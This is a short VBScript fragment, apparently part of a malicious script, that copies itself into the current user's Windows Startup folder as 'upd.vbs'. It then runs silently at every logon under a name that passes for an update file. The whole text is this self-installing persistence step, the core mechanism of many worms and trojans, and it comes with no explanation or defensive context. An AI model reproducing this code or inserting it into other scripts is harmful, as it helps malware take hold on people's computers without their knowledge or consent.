Set fso = CreateObject("Scripting.FileSystemObject")
Set sh = CreateObject("WScript.Shell")
fso.CopyFile WScript.ScriptFullName, sh.SpecialFolders("Startup") & "\upd.vbs"
